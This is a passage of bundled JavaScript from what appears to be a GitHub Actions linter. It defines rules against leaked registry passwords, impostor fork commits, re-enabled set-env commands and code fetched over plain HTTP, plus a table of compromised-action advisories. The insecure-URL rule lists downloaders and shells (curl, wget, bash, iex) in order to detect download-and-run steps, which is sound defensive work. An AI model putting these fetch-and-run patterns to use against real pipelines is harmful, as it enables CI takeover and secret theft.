    summary: "`container.credentials.password` or `services.<id>.credentials.password` is a literal instead of a secret.",
    why: "Workflow files are readable by everyone who can read the repository, its forks and its history; a registry password committed there is published. Rotating it after the fact does not remove it from forks or clones.",
    fix: "Store the password as an encrypted secret (or use `${{ github.token }}` for GHCR) and reference it: `password: ${{ secrets.REGISTRY_PASSWORD }}`. Then rotate the exposed password."
  },
  check(ctx) {
    const workflow = ctx.file.workflow;
    if (!workflow) return;
    for (const job of workflow.jobs) {
      checkCredentials(ctx, `The container of job \`${job.id}\``, job.container?.value ?? null, job.doc);
      for (const service of job.services.entries)
        checkCredentials(ctx, `Service \`${service.key}\` of job \`${job.id}\``, service.value, job.doc);
    }
  }
};

// server/src/resolve/types.ts
var ok = (value) => ({ ok: true, value });
var fail = (kind, message, retryAt) => ({
  ok: false,
  error: retryAt === void 0 ? { kind, message } : { kind, message, retryAt }
});
var FULL_SHA_RE = /^[0-9a-f]{40}$/;
function repoKey(owner, repo) {
  return `${owner}/${repo}`.toLowerCase();
}
function isValidRepoName(owner, repo) {
  return /^[A-Za-z0-9](?:[A-Za-z0-9-]{0,38})$/.test(owner) && /^[A-Za-z0-9._-]{1,100}$/.test(repo) && repo !== "." && repo !== "..";
}
function findRef(refs, name) {
  return { tag: refs.tags.find((ref2) => ref2.name === name), branch: refs.branches.find((ref2) => ref2.name === name) };
}

// server/src/resolve/snapshot.ts
function advisorySource(resolver) {
  const candidate = resolver;
  return typeof candidate.listAdvisories === "function" && "advisoriesUnavailable" in candidate ? candidate : null;
}
var attached = new AttachedCache("online-snapshot", attachmentsOf);
function attachSnapshot(file, snapshot) {
  attached.set(file, snapshot);
}
function snapshotOf(file) {
  return attached.get(file);
}
function emptySnapshot(offline, serverUrl = "https://github.com") {
  return { offline, serverUrl, repos: /* @__PURE__ */ new Map(), memberships: /* @__PURE__ */ new Map(), shortShas: /* @__PURE__ */ new Map() };
}
function resolvableRemote(site) {
  const reference = site.reference;
  if (reference.kind !== "remote" || !reference.ref || reference.refKind === "expression") return null;
  return reference;
}
function refsFor(snapshot, uses) {
  return snapshot?.repos.get(repoKey(uses.owner, uses.repo));
}
function advisoriesFor(snapshot, uses) {
  const result = snapshot?.advisories?.get(repoKey(uses.owner, uses.repo));
  return result?.ok ? result.value : void 0;
}
function membershipFor(snapshot, uses) {
  return uses.ref ? snapshot?.memberships.get(`${repoKey(uses.owner, uses.repo)}@${uses.ref}`) : void 0;
}
async function collectSnapshot(files, resolver, options = {}) {
  const snapshot = emptySnapshot(options.offline === true, options.serverUrl);
  if (snapshot.offline) return snapshot;
  const repos = /* @__PURE__ */ new Map();
  const shas = /* @__PURE__ */ new Map();
  const shorts = /* @__PURE__ */ new Map();
  for (const file of files) {
    for (const site of file.uses) {
      const uses = resolvableRemote(site);
      if (!uses) continue;
      const key = repoKey(uses.owner, uses.repo);
      if (!repos.has(key)) repos.set(key, uses);
      if (uses.refKind === "sha") shas.set(`${key}@${uses.ref}`, uses);
      if (uses.refKind === "short-sha") shorts.set(`${key}@${uses.ref}`, uses);
    }
  }
  const source = options.advisories === false ? null : advisorySource(resolver);
  const unavailable2 = source?.advisoriesUnavailable ?? null;
  if (source && unavailable2) snapshot.advisoriesSkipped = unavailable2;
  if (source && !unavailable2) snapshot.advisories = /* @__PURE__ */ new Map();
  await Promise.all(
    [...repos].map(async ([key, uses]) => {
      const [refs, advisories] = await Promise.all([
        resolver.listRefs(uses.owner, uses.repo),
        snapshot.advisories ? source.listAdvisories(uses.owner, uses.repo) : void 0
      ]);
      snapshot.repos.set(key, refs);
      if (advisories) snapshot.advisories.set(key, advisories);
    })
  );
  const work = [];
  if (options.memberships !== false) {
    for (const [key, uses] of shas) {
      const refs = snapshot.repos.get(repoKey(uses.owner, uses.repo));
      if (!refs?.ok) continue;
      work.push(
        resolver.commitMembership(uses.owner, uses.repo, uses.ref).then((membership) => void snapshot.memberships.set(key, membership))
      );
    }
  }
  for (const [key, uses] of shorts) {
    work.push(
      resolver.resolveRef(uses.owner, uses.repo, uses.ref).then((result) => {
        snapshot.shortShas.set(key, result.ok ? { ok: true, value: result.value.commit } : result);
      })
    );
  }
  await Promise.all(work);
  return snapshot;
}

// server/src/rules/support/resolved-uses.ts
function refOrValueSpan(site, uses) {
  return site.exact ? { start: site.valueStart + uses.refStart, end: site.valueStart + uses.refEnd } : site.entry.valueSpan;
}
function resolvedUses(sites, snapshot, which) {
  const found = [];
  for (const site of sites) {
    const uses = resolvableRemote(site);
    if (!uses) continue;
    if (which === "sha-pins" ? uses.refKind !== "sha" : uses.refKind === "sha" || uses.refKind === "short-sha") continue;
    const refs = refsFor(snapshot, uses);
    if (refs?.ok) found.push({ site, uses, refs: refs.value });
  }
  return found;
}

// server/src/rules/impostor-commit.ts
function checkImpostorCommit({ file, online, report: report2 }) {
  if (!online.available) return;
  const snapshot = online.value;
  for (const site of file.uses) {
    const uses = resolvableRemote(site);
    if (!uses || uses.refKind !== "sha") continue;
    const membership = membershipFor(snapshot, uses);
    if (membership?.status !== "impostor") continue;
    report2({
      span: refOrValueSpan(site, uses),
      message: `Commit ${uses.ref} is not on any branch or tag of ${uses.repository} (compared with ${membership.checked} refs): it comes from a fork, and \`${usesTarget(uses)}\` runs the fork's code`
    });
  }
}
var impostorCommit = {
  id: "impostor-commit",
  title: "Pinned commit does not belong to the named repository",
  kinds: ["workflow", "action"],
  severity: "high",
  confidence: "high",
  persona: "regular",
  online: true,
  docs: {
    summary: "A `uses:` pinned to a commit that no branch or tag of the named repository contains: a commit pushed to a fork, which GitHub serves under the parent's name (online check).",
    why: `GitHub stores a repository and all its forks in one object network, so \`owner/repo@<sha>\` resolves even when the commit only exists in somebody's fork. Anyone can fork an action, push malicious code and propose a "pin to SHA" change that looks like a hardening PR: the SHA looks legitimate but runs the fork's code (Chainguard's "impostor commits" research, 2023). A SHA pin is only as good as the proof that it is in the upstream history.`,
    fix: "Re-pin to the commit of a release tag of the real repository (use the pin quick fix on the tag), and find out where the SHA came from."
  },
  check: checkImpostorCommit
};

// server/src/rules/insecure-commands.ts
var NAME = "ACTIONS_ALLOW_UNSECURE_COMMANDS";
function envMaps(file) {
  const maps = [];
  const workflow = file.workflow;
  if (workflow) {
    maps.push(workflow.env);
    for (const job of workflow.jobs) {
      maps.push(job.env);
      for (const step of job.steps) maps.push(step.env);
    }
  }
  if (file.action) for (const step of file.action.steps) maps.push(step.env);
  return maps;
}
function removeEntry(file, env, index) {
  const lines = file.lines;
  const entry = env.entries[index];
  if (env.map?.flow) return null;
  const startLine = lines.lineAt(entry.keySpan.start);
  if (lines.lineText(startLine).slice(0, entry.keySpan.start - lines.lineStarts[startLine]).trim() !== "")
    return null;
  const endLine = lines.lineAt(Math.max(entry.keySpan.end, entry.valueSpan.end - 1));
  const end = endLine + 1 < lines.lineCount ? lines.lineStarts[endLine + 1] : file.text.length;
  return { span: { start: lines.lineStarts[startLine], end }, newText: "" };
}
var insecureCommands = {
  id: "insecure-commands",
  title: "Deprecated workflow commands re-enabled",
  kinds: ["workflow", "action"],
  severity: "high",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "`ACTIONS_ALLOW_UNSECURE_COMMANDS` turns the `::set-env::` and `::add-path::` log commands back on, so anything a step prints can set environment variables of later steps.",
    why: "GitHub disabled these commands in 2020 (CVE-2020-15228) because any text a step prints — a pull request title echoed by a test, a dependency's output — could set `LD_PRELOAD`, `NODE_OPTIONS` or `PATH` for the following steps and take over the job.",
    fix: "Remove the variable and write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead. The quick fix removes the entry."
  },
  check({ file, report: report2 }) {
    for (const env of envMaps(file)) {
      env.entries.forEach((entry, index) => {
        if (entry.key.toUpperCase() !== NAME) return;
        const value = (scalarText(entry.value) ?? "").trim().toLowerCase();
        if (value === "false" || value === "0" || value === "") return;
        const edit = removeEntry(file, env, index);
        report2({
          span: entry.keySpan,
          message: `\`${NAME}: ${value}\` lets any text printed by a step set environment variables and PATH for the following steps`,
          confidence: value.includes("${{") ? "medium" : "high",
          fixes: edit ? [{ title: `Remove \`${NAME}\``, isPreferred: true, safety: "unsafe", edits: [edit] }] : []
        });
      });
    }
  }
};

// server/src/rules/insecure-url-scheme.ts
var SCHEMES = ["http://", "git://", "ftp://"];
var HTTPS_HOSTS = /* @__PURE__ */ new Set([
  "github.com",
  "raw.githubusercontent.com",
  "objects.githubusercontent.com",
  "codeload.github.com",
  "gist.github.com",
  "gitlab.com",
  "bitbucket.org",
  "pypi.org",
  "pypi.python.org",
  "files.pythonhosted.org",
  "www.python.org",
  "python.org",
  "registry.npmjs.org",
  "registry.yarnpkg.com",
  "nodejs.org",
  "rubygems.org",
  "crates.io",
  "static.rust-lang.org",
  "sh.rustup.rs",
  "go.dev",
  "dl.google.com",
  "proxy.golang.org",
  "repo1.maven.org",
  "repo.maven.apache.org",
  "archive.apache.org",
  "dlcdn.apache.org",
  "downloads.apache.org",
  "www.apache.org",
  "cdn.kernel.org",
  "git.kernel.org",
  "mirrors.kernel.org",
  "ftp.gnu.org",
  "sourceware.org",
  "downloads.sourceforge.net",
  "sourceforge.net",
  "download.docker.com",
  "get.docker.com",
  "releases.hashicorp.com",
  "storage.googleapis.com",
  "dl-cdn.alpinelinux.org",
  "astral.sh",
  "www.sqlite.org",
  "cmake.org",
  "apt.llvm.org",
  "github.io"
]);
var DOWNLOADERS = /* @__PURE__ */ new Set(["curl", "wget", "aria2c", "invoke-webrequest", "iwr", "invoke-restmethod", "irm"]);
var RUNNERS = /* @__PURE__ */ new Set([
  "sh",
  "bash",
  "zsh",
  "dash",
  "ksh",
  "python",
  "python3",
  "perl",
  "ruby",
  "node",
  "iex",
  "invoke-expression",
  "pwsh",
  "powershell",
  "source",
  "."
]);
var EXTRACTORS = /* @__PURE__ */ new Set(["tar", "unzip", "7z", "bsdtar", "expand-archive", "dpkg", "rpm", "msiexec", "installer"]);
var FILTERS = /* @__PURE__ */ new Set(["xzcat", "zcat", "bzcat", "zstdcat", "gunzip", "gzip", "xz", "zstd", "bzip2", "tee", "cat"]);
var CODE_FILE = /\.(sh|bash|py|pl|rb|ps1|bat|cmd|exe|msi|deb|rpm|apk|jar|whl|gem|tgz|tar|gz|xz|bz2|zst|zip|7z|dmg|pkg|appimage|run|bin)$/i;
var INDEX_FLAGS = /* @__PURE__ */ new Set([
  "--index-url",
  "-i",
  "--extra-index-url",
  "--find-links",
  "-f",
  "--registry",
  "--source",
  "--index",
  "--default-index",
  "--git"
]);
var PACKAGE_TOOLS = /* @__PURE__ */ new Set([
  "pip",
  "pip3",
  "uv",
  "pipx",
  "poetry",
  "pdm",
  "npm",
  "yarn",
  "pnpm",
  "bun",
  "gem",
  "bundle",
  "cargo",
  "go",
  "composer",
  "easy_install"
]);
var INSTALL_VERBS = /* @__PURE__ */ new Set(["install", "add", "i", "get", "sync", "download", "require", "sources"]);
var GIT_VERBS = /* @__PURE__ */ new Set(["clone", "fetch", "pull", "submodule", "remote", "ls-remote"]);
var INPUT_KEYS = /^(registry|index|registry[-_]url|index[-_]url|extra[-_]index[-_]url|repository[-_]url|mirror|mirror[-_]url|find[-_]links)$/i;
function urlsIn(text) {
  const found = [];
  const lower2 = text.toLowerCase();
  for (const scheme of SCHEMES) {
    for (let at = lower2.indexOf(scheme); at !== -1; at = lower2.indexOf(scheme, at + scheme.length)) {
      const before = lower2[at - 1];
      if (before !== void 0 && /[a-z0-9+.-]/.test(before)) continue;
      let end = at + scheme.length;
      while (end < text.length && !/[\s"'`<>|;&()]/.test(text[end])) end++;
      const rest = text.slice(at + scheme.length, end);
      let hostEnd = 0;
      while (hostEnd < rest.length && rest[hostEnd] !== "/" && rest[hostEnd] !== "?" && rest[hostEnd] !== "#") hostEnd++;
      let host = rest.slice(0, hostEnd);
      const userAt = host.lastIndexOf("@");
      if (userAt !== -1) host = host.slice(userAt + 1);
      host = host.startsWith("[") ? host.slice(0, host.indexOf("]") + 1) : host.split(":")[0];
      found.push({ at, scheme: scheme.slice(0, -3), host: host.toLowerCase(), text: text.slice(at, end) });
    }
  }
  for (let at = lower2.indexOf("git+http://"); at !== -1; at = lower2.indexOf("git+http://", at + 1)) {
    const url = urlsIn(text.slice(at + 4)).find((u) => u.at === 0);
    if (url) found.push({ ...url, at: at + 4 });
  }
  return found.sort((a, b) => a.at - b.at);
}
function isLocal(host) {
  if (!host || host.includes("$") || host.includes("{") || host.includes("%")) return true;
  if (host === "localhost" || host.endsWith(".localhost") || host === "[::1]" || host === "0.0.0.0") return true;
  if (host.startsWith("127.")) return true;
  return !host.includes(".") && !host.startsWith("[");
}
function servesHttps(host) {
  if (HTTPS_HOSTS.has(host)) return true;
  const dot = host.indexOf(".");
  return dot !== -1 && host.endsWith(".github.io");
}
var nameOf = (command) => command.name.endsWith(".exe") ? command.name.slice(0, -4) : command.name;
function purpose(before, command, run2) {
  const lower2 = before.map((word) => word.replace(/^.*[\\/]/, "").toLowerCase());
  const last = lower2[lower2.length - 1] ?? "";
  if (lower2.includes("git") && lower2.some((word) => GIT_VERBS.has(word))) return "a git repository fetched";
  if (INDEX_FLAGS.has(last) || INDEX_FLAGS.has(last.split("=")[0])) return "a package index";
  if (lower2.some((word) => PACKAGE_TOOLS.has(word)) && lower2.some((word) => INSTALL_VERBS.has(word))) return "a package installed";
  if (lower2.includes("npm") && lower2.includes("config") && lower2.includes("registry")) return "a package index";
  if (!command || !run2 || !DOWNLOADERS.has(nameOf(command))) return null;
  let next = pipedInto(run2.script, command);
  for (let hops = 0; next && FILTERS.has(nameOf(next)) && next.pipesTo && hops < 8; hops++) next = pipedInto(run2.script, next);
  if (next && RUNNERS.has(nameOf(next))) return "a script piped into a shell";
  if (next && EXTRACTORS.has(nameOf(next))) return "an archive unpacked";
  const output = nameOf(command) === "wget" ? flagValue(command, "-O", "--output-document") : flagValue(command, "-o", "--output", "-OutFile", "-outfile");
  if (output && output.text !== "-" && CODE_FILE.test(output.text)) return "a program or package downloaded";
  return null;
}
function exactSpan(ctx, run2, word, url, inWord) {
  const rawAt = word.raw.indexOf(url.text);
  if (rawAt === -1 && inWord !== 0) return null;
  const start = run2.toSource(word.span.start + (rawAt === -1 ? 0 : rawAt));
  const span = { start, end: start + url.text.length };
  return ctx.file.text.slice(span.start, span.end) === url.text ? span : null;
}
function schemeFix(ctx, span, url) {
  if (!servesHttps(url.host)) return [];
  const end = span.start + url.scheme.length;
  if (ctx.file.text.slice(span.start, end).toLowerCase() !== url.scheme) return [];
  return [
    {
      title: `Fetch \`${url.host}\` over https://`,
      isPreferred: true,
      safety: "safe",
      edits: [{ span: { start: span.start, end }, newText: "https" }]
    }
  ];
}
function reportUrl(ctx, span, url, what, exact) {
  ctx.report({
    span,
    message: `\`${url.text}\` is ${what} over plain \`${url.scheme}://\`: anyone on the network path can change what arrives${servesHttps(url.host) ? `; \`${url.host}\` serves it over https://` : ""}`,
    fixes: exact ? () => schemeFix(ctx, span, url) : []
  });
}
function checkScript(ctx, run2, seen) {
  const lower2 = run2.script.text.toLowerCase();
  if (!SCHEMES.some((scheme) => lower2.includes(scheme))) return;
  for (const command of run2.script.commands) {
    const words2 = command.argv;
    for (let w2 = 0; w2 < words2.length; w2++) {
      const word = words2[w2];
      for (const url of urlsIn(word.text)) {
        if (isLocal(url.host)) continue;
        const prefix = word.text.slice(0, url.at);
        const nested = /\s/.test(prefix) ? prefix.trim() : "";
        const before = nested ? nested.split(/\s+/) : words2.slice(0, w2).map((x) => x.text);
        const what = nested ? purpose(before, null, null) : purpose(before, command, run2);
        if (!what) continue;
        const exact = exactSpan(ctx, run2, word, url, url.at);
        const span = exact ?? run2.sourceSpan(word.span);
        if (seen.has(span.start)) continue;
        seen.add(span.start);
        reportUrl(ctx, span, url, what, exact !== null);
      }
    }
  }
}
var insecureUrlScheme = {
  id: "insecure-url-scheme",
  title: "Code or packages fetched over plain HTTP or git://",
  kinds: ["workflow", "action"],
  severity: "high",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "A script or an action input fetches code or packages from an `http://`, `git://` or `ftp://` URL: a git clone, a package index, a package URL, or a download that is run, unpacked or installed.",
    why: "Nothing on a plain-text connection is authenticated: a hostile Wi-Fi, proxy, compromised router or BGP hijack on the path replaces what the job runs. The runner then executes it with the job's token and secrets. GitHub turned off the unauthenticated `git://` protocol in 2022 for this reason; PyPI and npm have served only HTTPS for years, so an `http://` index is a mirror or a typo.",
    fix: "Use `https://`. The quick fix switches the scheme for hosts known to serve the same content over HTTPS; for other hosts check that they do, or pin what you fetch with a checksum."
  },
  check(ctx) {
    const seen = /* @__PURE__ */ new Set();
    for (const run2 of runScripts(ctx.file)) checkScript(ctx, run2, seen);
    const steps = ctx.file.workflow ? ctx.file.workflow.jobs.flatMap((job) => job.steps) : ctx.file.action?.steps ?? [];
    for (const step of steps) {
      if (!step.uses) continue;
      for (const entry of step.with.entries) {
        if (!INPUT_KEYS.test(entry.key)) continue;
        const value = scalarText(entry.value);
        if (!value) continue;
        const url = urlsIn(value.trim()).find((u) => u.at === 0);
        if (!url || isLocal(url.host)) continue;
        const start = entry.valueSpan.start + (ctx.file.text.startsWith(url.text, entry.valueSpan.start) ? 0 : 1);
        const exact = ctx.file.text.startsWith(url.text, start);
        const span = exact ? { start, end: start + url.text.length } : entry.valueSpan;
        reportUrl(ctx, span, url, `the package source of \`${entry.key}\``, exact);
      }
    }
  }
};

// server/src/knowledge/advisories.ts
var ADVISORIES = [
  {
    repository: "tj-actions/changed-files",
    ghsa: "GHSA-mrrh-fwg8-r2c3",
    cve: "CVE-2025-30066",
    severity: "high",
    kind: "compromise",
    summary: "its tags (v1 to v45.0.7) were moved on March 14–15, 2025 to a malicious commit that printed the runner's secrets into the build log",
    // GHSA: affected <= 45.0.7, patched 46.0.1; CVE record: versions 1 to < 46.
    ranges: [{ fixed: "46" }],
    badCommits: ["0e58ed8671d6b60d0890c21b07f8835ace038e67"],
    patchedTag: "v46.0.1",
    source: "https://github.com/advisories/GHSA-mrrh-fwg8-r2c3",
    references: [
      "https://raw.githubusercontent.com/github/advisory-database/bcdd7ff351551f7df4f41eecad6de58eca891ed8/advisories/github-reviewed/2025/03/GHSA-mrrh-fwg8-r2c3/GHSA-mrrh-fwg8-r2c3.json",
      "https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2025/30xxx/CVE-2025-30066.json",
      "https://www.cisa.gov/news-events/alerts/2025/03/18/supply-chain-compromise-third-party-github-action-cve-2025-30066"
    ]
  },
  {
    repository: "tj-actions/changed-files",
    ghsa: "GHSA-mcph-m25j-8j63",
    cve: "CVE-2023-51664",
    severity: "high",
    kind: "vulnerability",
    summary: "changed file names were returned unescaped, so a file name with shell metacharacters injects commands into a `run:` that uses the output",
    ranges: [{ fixed: "41" }],
    patchedTag: "v41",
    source: "https://github.com/tj-actions/changed-files/security/advisories/GHSA-mcph-m25j-8j63",
    references: [
      "https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2023/51xxx/CVE-2023-51664.json",
      "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-mcph-m25j-8j63.md"
    ]
  },
  {
    repository: "reviewdog/action-setup",
    ghsa: "GHSA-qmg3-hpqr-gqvc",
    cve: "CVE-2025-30154",
    severity: "high",
    kind: "compromise",
    summary: "its `v1` tag was moved for a while in March 2025 to a malicious commit that leaked the runner's secrets",
    ranges: [],
    badCommits: ["f0d342d24037bb11d26b9bd8496e0808ba32e9ec"],
    source: "https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2025/30xxx/CVE-2025-30154.json",
    references: [
      "https://github.com/advisories/GHSA-qmg3-hpqr-gqvc",
      "https://www.cisa.gov/news-events/alerts/2025/03/18/supply-chain-compromise-third-party-github-action-cve-2025-30066"
    ]
  },
  {
    repository: "aquasecurity/trivy-action",
    ghsa: "GHSA-69fq-xp46-6x23",
    cve: "CVE-2026-33634",
    severity: "high",
    kind: "compromise",
    summary: "76 of its 77 tags (every one before 0.35.0) were force-pushed on March 19–20, 2026 to a credential stealer",
    ranges: [{ fixed: "0.35.0" }],
    badCommits: ["ddb9da4475c1cef7d5389062bdfdfbdbd1394648"],
    patchedTag: "0.35.0",
    source: "https://github.com/aquasecurity/trivy/security/advisories/GHSA-69fq-xp46-6x23",
    references: [
      "https://raw.githubusercontent.com/github/advisory-database/bcdd7ff351551f7df4f41eecad6de58eca891ed8/advisories/github-reviewed/2026/03/GHSA-69fq-xp46-6x23/GHSA-69fq-xp46-6x23.json",
      "https://github.com/aquasecurity/trivy-action/issues/541"
    ]
  },
  {
    repository: "aquasecurity/setup-trivy",
    ghsa: "GHSA-69fq-xp46-6x23",
    cve: "CVE-2026-33634",
    severity: "high",
    kind: "compromise",
    summary: "all 7 of its tags were replaced on March 19, 2026 with malicious commits",
    ranges: [{ fixed: "0.2.6" }],
    patchedTag: "v0.2.6",
    source: "https://github.com/aquasecurity/trivy/security/advisories/GHSA-69fq-xp46-6x23",
    references: ["https://github.com/github/gh-aw-firewall/issues/1384", "https://github.com/pact-foundation/pact-broker-docker/pull/329"]
  },
  {
    repository: "actions/download-artifact",
    ghsa: "GHSA-cxww-7g56-2vh6",
    cve: "CVE-2024-42471",
    severity: "high",
    kind: "vulnerability",
    summary: "a crafted artifact could write files outside the destination directory when extracted (path traversal)",
    ranges: [{ introduced: "4.0.0", fixed: "4.1.3" }],
    patchedTag: "v4.1.3",
    source: "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-cxww-7g56-2vh6.md",
    references: ["https://github.com/advisories/GHSA-cxww-7g56-2vh6"]
  },
  {
    repository: "dawidd6/action-download-artifact",
    ghsa: "GHSA-5xr6-xhww-33m4",
    severity: "high",
    kind: "vulnerability",
    summary: "artifacts of fork runs were searched by default (`allow_forks`), so a fork could poison what a privileged workflow downloads",
    ranges: [{ fixed: "6" }],
    patchedTag: "v6",
    source: "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-5xr6-xhww-33m4.md",
    references: ["https://github.com/advisories/GHSA-5xr6-xhww-33m4"]
  },
  {
    repository: "lycheeverse/lychee-action",
    ghsa: "GHSA-65rg-554r-9j5x",
    cve: "CVE-2024-48908",
    severity: "medium",
    kind: "vulnerability",
    summary: "an expression in its `lycheeVersion` input was interpolated into the composite action's shell script (code injection)",
    // GHSA: <= 2.0.1, patched 2.0.2.
    ranges: [{ fixed: "2.0.2" }],
    patchedTag: "v2.0.2",
    source: "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-65rg-554r-9j5x.md",
    references: ["https://github.com/advisories/GHSA-65rg-554r-9j5x"]
  },
  {
    repository: "atlassian/gajira-create",
    ghsa: "GHSA-4xqx-pqpj-9fqw",
    cve: "CVE-2020-14188",
    severity: "high",
    kind: "vulnerability",
    summary: "a crafted GitHub issue made the action execute arbitrary code on the runner",
    ranges: [{ fixed: "2.0.1" }],
    patchedTag: "v2.0.1",
    source: "https://github.com/advisories/GHSA-4xqx-pqpj-9fqw",
    references: ["https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2020/14xxx/CVE-2020-14188.json"]
  },
  {
    repository: "check-spelling/check-spelling",
    ghsa: "GHSA-g86g-chm8-7r2p",
    cve: "CVE-2021-32724",
    severity: "high",
    kind: "vulnerability",
    summary: "on `pull_request_target` or `schedule`, a crafted pull request could expose the `GITHUB_TOKEN`",
    ranges: [{ fixed: "0.0.19" }],
    patchedTag: "v0.0.19",
    source: "https://github.com/advisories/GHSA-g86g-chm8-7r2p",
    references: ["https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2021/32xxx/CVE-2021-32724.json"]
  },
  {
    repository: "gradle/gradle-build-action",
    ghsa: "GHSA-h3qr-39j9-4r5v",
    cve: "CVE-2023-30853",
    severity: "high",
    kind: "vulnerability",
    summary: "with the configuration cache enabled, secrets passed in environment variables could be saved into a GitHub Actions cache entry readable by untrusted workflows",
    ranges: [{ fixed: "2.4.2" }],
    patchedTag: "v2.4.2",
    source: "https://github.com/gradle/gradle-build-action/security/advisories/GHSA-h3qr-39j9-4r5v",
    references: ["https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-h3qr-39j9-4r5v.md"]
  },
  {
    repository: "rlespinasse/github-slug-action",
    ghsa: "GHSA-6q4m-7476-932w",
    cve: "CVE-2023-27581",
    severity: "high",
    kind: "vulnerability",
    summary: "`github.head_ref` was substituted into its shell script, so a crafted branch name injects commands",
    // The maintainers' advisory: "Patched action is available on tag v4, tag v4.4.1, and any tag beyond."
    // Only the v4 series is matched: the advisory's lower bound for v3 was not confirmed.
    ranges: [{ introduced: "4.0.0", fixed: "4.4.1" }],
    patchedTag: "v4.4.1",
    source: "https://github.com/rlespinasse/github-slug-action/security/advisories/GHSA-6q4m-7476-932w",
    references: ["https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-6q4m-7476-932w.md"]
  },
  {
    repository: "tj-actions/branch-names",
    ghsa: "GHSA-8v8w-v8xg-79rf",
    cve: "CVE-2023-49291",
    severity: "high",
    kind: "vulnerability",
    summary: "the branch name was substituted into its shell script, so a crafted branch name injects commands",
    ranges: [{ fixed: "7.0.7" }],
    patchedTag: "v7.0.7",
    source: "https://github.com/advisories/GHSA-8v8w-v8xg-79rf",
    references: [
      "https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2023/49xxx/CVE-2023-49291.json",
      "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-8v8w-v8xg-79rf.md"
    ]
  },
  {
    repository: "tj-actions/branch-names",
    ghsa: "GHSA-gq52-6phf-x2r6",
    cve: "CVE-2025-54416",
    severity: "high",
    kind: "vulnerability",
    summary: 'command injection through branch names (CVE title: "tj-actions/branch-names Contains Command Injection Vulnerability")',
    ranges: [{ lastAffected: "8.2.1" }],
    patchedTag: "v9.0.0",
    source: "https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2025/54xxx/CVE-2025-54416.json",
    references: ["https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-8v8w-v8xg-79rf.md"],
    unverified: "the range (<= 8.2.1, fixed in 9.0.0) and the mechanism were read only in a third-party summary, not in the advisory or the CVE record"
  },
  {
    repository: "tj-actions/verify-changed-files",
    ghsa: "GHSA-ghm2-rq8q-wrhc",
    cve: "CVE-2023-52137",
    severity: "high",
    kind: "vulnerability",
    summary: "changed file names were returned unescaped, so a file name with shell metacharacters injects commands into a `run:` that uses the output",
    ranges: [{ fixed: "17" }],
    patchedTag: "v17",
    source: "https://github.com/bash-lsp/bash-language-server/pull/1074",
    references: [
      "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-ghm2-rq8q-wrhc.md",
      "https://github.com/tj-actions/depcheck/pull/144"
    ]
  }
];
var byRepository = /* @__PURE__ */ new Map();
for (const advisory of ADVISORIES) {
  if (advisory.unverified) continue;
  const list = byRepository.get(advisory.repository) ?? [];
  list.push(advisory);
  byRepository.set(advisory.repository, list);
}
function advisoriesFor2(repository) {
  return byRepository.get(repository.toLowerCase()) ?? [];
}

// server/src/resolve/versions.ts
var VERSION_RE2 = /^(v?)(\d+)(?:\.(\d+))?(?:\.(\d+))?(?:-([0-9A-Za-z.-]+))?$/;
function parseVersion(text) {
  const match = VERSION_RE2.exec(text);
  if (!match) return null;
  const parts = [match[2], match[3], match[4]].filter((part) => part !== void 0).map(Number);
  return { text, prefix: match[1] === "v" ? "v" : "", parts, prerelease: match[5] ?? null };
}
function isFullVersion(version2) {
  return version2 !== null && version2.parts.length === 3;
}
function compareVersionsDesc(a, b) {
  if (!a || !b) return Number(a === null) - Number(b === null);
  for (let i = 0; i < 3; i++) {
    const diff = (b.parts[i] ?? -1) - (a.parts[i] ?? -1);
    if (diff !== 0) return diff;
  }
  if (a.prerelease !== b.prerelease) {
    if (a.prerelease === null) return -1;
    if (b.prerelease === null) return 1;
    return a.prerelease < b.prerelease ? 1 : -1;
  }
  return 0;
}
function tagsAt(refs, commit) {
  return refs.tags.filter((tag) => tag.commit === commit).map((tag) => tag.name).sort((a, b) => compareVersionsDesc(parseVersion(a), parseVersion(b)) || (a < b ? -1 : a > b ? 1 : 0));
}
function chooseVersionComment(refs, commit, original) {
  const originalVersion = original ? parseVersion(original) : null;
  const candidates = tagsAt(refs, commit).map(parseVersion).filter(isFullVersion).filter((version2) => version2.prerelease === null || originalVersion?.prerelease);
  const sameStyle = candidates.filter(
    (version2) => !originalVersion || version2.prefix === originalVersion.prefix && version2.parts[0] === originalVersion.parts[0]
  );
  if (sameStyle.length > 0) return sameStyle[0].text;
  if (original) return original;
  const anyTag = tagsAt(refs, commit);
  return candidates[0]?.text ?? anyTag[0] ?? null;
}

// server/src/fixes/pin.ts
var VERSION_TOKEN_RE = /^(\s*)(pin\s*@|tag=|@)?(v?\d+(?:\.\d+){0,2}(?:-[0-9A-Za-z.-]+)?)(?=$|[\s,;])/;
function refSpan(site, uses) {
  if (!site.exact || uses.ref === null) return null;
  return { start: site.valueStart + uses.refStart, end: site.valueStart + uses.refEnd };
}
function trailingComment(file, site, alsoToken = null) {
  const valueEnd = site.entry.valueSpan.end;
  const line = file.lines.lineAt(valueEnd);
  const lineEnd = file.lines.lineContentEnd(line);
  const rest = file.text.slice(valueEnd, lineEnd);
  if (/^\s*$/.test(rest)) return null;
  const match = /^(\s+)#/.exec(rest);
  if (!match) return "blocked";
  const hash = valueEnd + match[1].length;
  const body = file.text.slice(hash + 1, lineEnd);
  const token = VERSION_TOKEN_RE.exec(body);
  if (token) {
    const start = hash + 1 + token[1].length + (token[2]?.length ?? 0);
    return { hash, end: lineEnd, version: { span: { start, end: start + token[3].length }, text: token[3] } };
  }
